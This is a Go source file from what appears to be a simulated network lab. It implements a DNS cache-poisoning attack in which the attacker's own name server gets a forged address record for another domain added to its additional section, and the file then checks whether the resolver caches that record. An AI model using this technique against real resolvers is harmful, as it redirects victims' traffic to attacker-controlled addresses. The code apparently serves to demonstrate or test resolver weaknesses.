package attack

import (
	"net/netip"
	"strings"

	mdns "github.com/miekg/dns"

	"playnet/core/dns"
	"playnet/core/host"
)

// lie has the resolver ask for names in the attacker's own zone, and puts into the answers
// of its server, as they leave the host, an address for somebody else's name. Nothing has
// to be guessed: the answer is a true one. Whether it worked is seen by asking for that
// name.
func (p *Program) lie() error {
	stop, err := p.wire.Tap(p.h.Name(), p.addLie)
	if err != nil {
		return err
	}
	defer stop()
	for p.done.Races < uint64(max(p.config.Races, 1)) && !p.ended {
		p.become(Racing)
		p.done.Races++
		name := p.below(p.config.Own)
		p.h.Emit(Try{Name: name, Race: int(p.done.Races), Forgeries: 1, Combinations: 1})
		if _, err := p.ask(name, nil); err != nil {
			return err
		}
		m, err := p.ask(p.config.Name, nil)
		if err != nil {
			return err
		}
		if m != nil && p.believed(m) {
			p.done.Won++
			p.h.Emit(Won{Name: dot(p.config.Name), Race: int(p.done.Races)})
			p.become(Succeeded)
			return nil
		}
		p.h.Emit(Lost{Name: dot(p.config.Name), Race: int(p.done.Races)})
	}
	p.become(GaveUp)
	return nil
}

// believed reports whether an answer says what was forged.
func (p *Program) believed(m *mdns.Msg) bool {
	for _, rr := range m.Answer {
		if a, ok := rr.(*mdns.A); ok {
			if addr, ok := netip.AddrFromSlice(a.A.To4()); ok && addr == p.config.Address {
				return true
			}
		}
	}
	return false
}

// addLie puts the lie into an answer of the attacker's own server.
func (p *Program) addLie(c host.Crossing) host.Verdict {
	m := new(mdns.Msg)
	if !c.Up || c.Src.Port() != dns.Port || m.Unpack(c.Data) != nil || !m.Response || len(m.Question) != 1 ||
		!strings.HasSuffix(strings.ToLower(m.Question[0].Name), "."+dot(p.config.Own)) {
		return host.Verdict{}
	}
	m.Extra = append([]mdns.RR{record(dot(p.config.Name), p.config.Address)}, m.Extra...)
	m.Compress = true
	b := packed(m)
	p.done.Packets++
	p.done.Bytes += uint64(len(b))
	return host.Verdict{Data: b}
}
